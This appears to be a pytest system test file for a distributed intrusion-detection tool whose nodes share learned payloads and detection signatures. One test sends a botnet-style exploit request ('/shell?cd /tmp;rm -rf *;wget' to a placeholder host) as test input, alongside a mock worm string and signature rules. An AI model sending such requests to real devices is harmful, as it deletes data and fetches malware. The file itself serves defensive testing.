"""What attackers say is learned as well as who they are: a payload found at one node is dropped at the other from
everybody, and a signature that one node shares is looked for by the other."""

import contextlib
import os
import secrets
import signal
import socket
import tempfile
import time
from pathlib import Path
from statistics import median

import pytest

from actors.dermis.antigen import TOPIC_ANTIGENS, Antigen, Payload, make_id, seal, signature_name
from tests.support.fleet import a_fleet
from tests.support.packets import UDP

pytestmark = [pytest.mark.system, pytest.mark.kernel]

PORT = 7777
#: A datagram's sender may be borrowed, so nobody is banned for it; what it says is hostile all the same.
SIGNATURE = """
- name: test-worm
  pattern: '^WORM/[0-9] spread now to'
  severity: critical
  action: throttle
  protocols: [udp]
  ports: [7777]
  vaccinate: true
  hit: ['WORM/3 spread now to 198.51.100.9 and beyond']
  miss: ['WORMS are useful in a garden']
"""
WORM = b"WORM/3 spread now to every host there is, from " + b"north"
BENIGN = b"WORMS are useful in a garden, says the gardener"
#: Behind the attacker's wire.
FIRST, SECOND, THIRD, FOURTH, FIFTH = (f"10.66.0.{number}" for number in range(7, 12))
SHARED = """
- name: shared-sesame
  pattern: 'open sesame [0-9]{4}'
  severity: critical
  action: ban
  protocols: [tcp, udp]
  hit: ['please open sesame 1234']
  miss: ['open the window']
"""


@pytest.fixture(scope="module")
def fleet():
    with tempfile.TemporaryDirectory(prefix="signatures") as name:
        Path(name).chmod(0o755)
        (Path(name) / "test.yaml").write_text(SIGNATURE)
        (Path(name) / "test.yaml").chmod(0o644)
        with a_fleet(one={"TEGUMENTAR_MACROPHAGE__SIGNATURES": name}) as fleet:
            for node in (fleet.one, fleet.two):
                node.until(lambda node=node: node.ask("rules.list")["signatures"], 15)
            yield fleet


@contextlib.contextmanager
def listening(node, port=PORT):
    """A datagram service on the node, and what it has heard."""
    with node.net.node.namespace.entered():
        service = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        service.bind(("0.0.0.0", port))
    service.setblocking(False)
    try:
        yield service
    finally:
        service.close()


def heard(service):
    told = []
    with contextlib.suppress(BlockingIOError):
        while True:
            data, (source, _) = service.recvfrom(2_048)
            told.append((source, data))
    return told


def say(node, source, *words, port=PORT):
    """The attacker sends datagrams from this address."""
    attacker = node.net.attacker
    attacker.namespace.run("ip", "addr", "replace", f"{source}/32", "dev", attacker.interface)
    with attacker.namespace.entered():
        mouth = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    with mouth:
        mouth.bind((source, 0))
        for one in words:
            mouth.sendto(one, (node.net.node.address(4), port))


def requests_heard(node, source, *requests):
    """Each said over a connection of its own from this address to port 80; those that the node's service got."""
    attacker, told = node.net.attacker, []
    attacker.namespace.run("ip", "addr", "replace", f"{source}/32", "dev", attacker.interface)
    with node.net.node.namespace.entered():
        service = socket.create_server(("0.0.0.0", 80))
    service.settimeout(2)
    with service:
        for request in requests:
            with attacker.namespace.entered():
                client = socket.create_connection((node.net.node.address(4), 80), 3, (source, 0))
            served, _ = service.accept()
            with client, served:
                served.settimeout(0.4)
                client.sendall(request)
                with contextlib.suppress(TimeoutError):
                    told.append(served.recv(2_048))
    return told


def vaccines(node):
    return {row["begins_with"]: row for row in node.ask("vaccines.list")["vaccines"]}


def vaccine(node):
    return vaccines(node).get("WORM/3 spread now to every host ", {})


def dropped(node):
    return node.ask("reflex.status")["counters"]["packets"].get("vaccine", 0)


def test_a_payload_found_at_one_node_is_dropped_at_the_other_from_another_source(fleet):
    with listening(fleet.two) as service:
        say(fleet.two, SECOND, WORM, BENIGN)
        before = []
        fleet.two.until(lambda: before.extend(heard(service)) or len(before) == 2, 2)

        say(fleet.one, FIRST, WORM)
        fleet.one.until(lambda: vaccine(fleet.one).get("proven"), 5, step_s=0.01)
        fleet.two.until(lambda: vaccine(fleet.two).get("proven"), 5, step_s=0.005)
        for source in (SECOND, THIRD):
            say(fleet.two, source, WORM, BENIGN)
        time.sleep(0.3)
        told = heard(service)

    assert sorted(told) == [(SECOND, BENIGN), (THIRD, BENIGN)]
    assert dropped(fleet.two) == vaccine(fleet.two)["hits"] == 2
    assert vaccine(fleet.two)["reason"].startswith("learned from node north: signature test-worm")
    assert vaccine(fleet.one)["seen_from"] == FIRST
    assert not {FIRST, SECOND, THIRD} & {s for s, row in fleet.two.blocks().items() if row["enforced"]}


def test_a_request_that_a_shipped_signature_knows_is_dropped_at_the_other_node_and_its_neighbours_are_served(fleet):
    request, ordinary = (
        b"GET /shell?cd+/tmp;rm+-rf+*;wget+198.51.100.9/jaws HTTP/1.1\r\n\r\n",
        b"GET / HTTP/1.1\r\n\r\n",
    )

    requests_heard(fleet.one, FOURTH, request)
    head = request[:32].decode()
    fleet.two.until(lambda: vaccines(fleet.two).get(head, {}).get("proven"), 5)
    told = requests_heard(fleet.two, SECOND, ordinary, request, ordinary)

    assert told == [ordinary, ordinary]
    assert "router-botnet-exploit" in vaccines(fleet.two)[head]["reason"]
    assert FOURTH in fleet.two.blocks(), "its first sender is banned as well"
    fleet.two.json("vaccines", "release", vaccines(fleet.two)[head]["name"])
    fleet.two.until(lambda: fleet.two.ask("reflex.status")["vaccines"] == 1, 5)
    assert requests_heard(fleet.two, FIFTH, request) == [request]


def test_why_and_the_lists_name_the_vaccine_and_its_teacher(fleet):
    fleet.two.until(lambda: "test-worm" in str(fleet.two.ask("why", address=SECOND)["sentences"]), 5)
    sentences = " ".join(fleet.two.json("why", SECOND)["sentences"])
    assert "learned from node north" in sentences
    assert "was dropped" in sentences
    [lesson] = [row for row in fleet.two.json("antigens")["vaccines"] if row["subject"].startswith("udp/7777/")]
    assert lesson["node"] == "north"
    [taught] = [row for row in fleet.one.json("antigens")["antigens"] if row["subject"] == lesson["subject"]]
    assert taught["id"] == lesson["id"]
    assert [row["name"] for row in fleet.two.json("vaccines")["vaccines"]] == [lesson["subject"]]
    assert fleet.two.ask("reflex.status")["vaccines"] == 1
    for verb in ("vaccines", "antigens", "status"):
        shown = fleet.two.cli(verb)
        assert shown.returncode == 0, shown.stderr
        assert verb != "status" or "1 payload dropped from everybody" in shown.stdout
    kinds = [row["kind"] for row in fleet.two.json("history", lesson["subject"])["history"]]
    assert sorted(set(kinds)) == ["fingerprint", "vaccine"]


def test_forged_and_unfit_vaccines_change_nothing_and_are_counted(fleet):
    def lesson(head, at):
        payload = Payload(proto=UDP, dest_port=PORT, head=head.hex())
        return Antigen(
            id=make_id("north", payload.name, at), subject=payload.name, reason="x", at_unix_s=at,
            expires_unix_s=at + 60, payload=payload,
        )  # fmt: skip

    now = time.time()
    good = seal(lesson(b"something else that is hostile!!"[:32], now), TOPIC_ANTIGENS, fleet.keys["north"])
    forged = good[:-5] + b"xxxxx"
    unfit = [
        seal(lesson(head, now + number / 1e3), TOPIC_ANTIGENS, fleet.keys["north"])
        for number, head in enumerate((b"GET / HTTP/1.1\r\nHost: example.or", bytes(32), b"hello"))
    ]

    def refused():
        return fleet.two.ask("antigens.list")["refused"]

    before = dict(refused())
    fleet.tell(forged, *unfit)
    fleet.two.until(lambda: refused().get("unfit", 0) == 3, 10)

    assert refused()["forged"] - before.get("forged", 0) == 1
    assert len(vaccines(fleet.two)) == 1


def test_a_vaccine_survives_every_cell_and_a_restart_of_the_node(fleet):
    for cell in ("reflex_arc", "permeability"):
        pid = fleet.two.cells()[cell]["pid"]
        os.kill(pid, signal.SIGKILL)
        fleet.two.until(lambda cell=cell, pid=pid: fleet.two.cells()[cell]["pid"] not in (0, pid), 10)
        with listening(fleet.two) as service:
            say(fleet.two, THIRD, WORM, BENIGN)
            time.sleep(0.2)
            assert heard(service) == [(THIRD, BENIGN)]

    fleet.two.service.stop()
    fleet.two.service.start()
    fleet.two.until(lambda: vaccine(fleet.two).get("proven"), 10)

    assert "node north" in vaccine(fleet.two)["reason"]


def test_a_released_vaccine_lets_pass_again_and_is_not_learned_again(fleet):
    name = vaccine(fleet.two)["name"]

    done = fleet.two.json("vaccines", "release", name)
    with listening(fleet.two) as service:
        fleet.two.until(lambda: fleet.two.ask("reflex.status")["vaccines"] == 0, 5)
        say(fleet.two, THIRD, WORM)
        fleet.two.until(lambda: heard(service) == [(THIRD, WORM)], 2)

    assert done == {"released": [name]}
    assert vaccines(fleet.two) == {}
    assert vaccine(fleet.one)["proven"]
    gone = fleet.two.cli("vaccines", "release", name)
    assert gone.returncode != 0
    assert "there is no vaccine" in gone.stderr


def test_a_shared_signature_is_looked_for_by_the_other_node_and_named_after_its_teacher(fleet):
    path = fleet.one.directory / "shared.yaml"
    path.write_text(SHARED)

    done = fleet.one.json("antigens", "share", str(path), "--for", "1h")
    fleet.two.until(lambda: any(row["in_use"] for row in fleet.two.ask("antigens.list")["signatures"]), 15)
    say(fleet.two, FIRST, b"now open sesame 4711", port=9)
    fleet.two.until(lambda: FIRST in fleet.two.blocks(), 5)

    assert done["done"][0]["name"] == "shared-sesame"
    [row] = [row for row in fleet.two.ask("rules.list")["signatures"] if row["name"] == "shared-sesame"]
    assert row["learned_from"] == "north"
    assert "learned from node north" in fleet.two.blocks()[FIRST]["reason"]
    assert fleet.two.blocks()[FIRST]["action"] == "throttle"

    fleet.two.json("antigens", "release", "shared-sesame")
    fleet.two.until(
        lambda: "shared-sesame" not in {row["name"] for row in fleet.two.ask("rules.list")["signatures"]}, 10
    )


def test_a_bad_signature_is_refused_by_its_own_node_and_by_the_others(fleet):
    broad = (
        SHARED.replace("open sesame [0-9]{4}", "[a-z]")
        .replace("shared-sesame", "broad")
        .replace("open the window", "0")
    )
    false = SHARED.replace("please open", "please shut").replace("shared-sesame", "untrue")
    for number, text in enumerate((broad, false, "nonsense", SHARED + SHARED)):
        path = fleet.one.directory / f"bad{number}.yaml"
        path.write_text(text)
        assert fleet.one.cli("antigens", "share", str(path)).returncode != 0

    def taught(text, number):
        now = time.time() + number / 1e3
        name = signature_name(text)
        return Antigen(
            id=make_id("north", name, now), subject=name, reason="signature x", at_unix_s=now,
            expires_unix_s=now + 600, signature=text,
        )  # fmt: skip

    before = fleet.two.ask("rules.list")["total"]["signatures"]
    fleet.tell(*(seal(taught(text, n), TOPIC_ANTIGENS, fleet.keys["north"]) for n, text in enumerate((broad, false))))

    fleet.two.until(lambda: fleet.two.ask("antigens.list")["refused"].get("signature", 0) == 2, 15)
    assert fleet.two.ask("rules.list")["total"]["signatures"] == before
    assert fleet.two.ask("antigens.list")["signatures"] == []


@pytest.mark.timed
def test_a_payload_is_dropped_at_the_other_node_within_half_a_second_of_the_decision(fleet):
    delays = []
    for number in range(3):
        play = secrets.randbelow(200)  # another one each time this is played again
        words = f"WORM/{number} spread now to {play:03} and every quarter of the town"
        head = words[:32]
        say(fleet.one, f"10.66.{20 + play}.{number + 1}", words.encode())
        fleet.two.until(lambda head=head: vaccines(fleet.two).get(head, {}).get("proven"), 5, step_s=0.005)
        delays.append(time.time() - vaccines(fleet.one)[head]["since_unix_s"])

    assert median(delays) < 0.5, delays
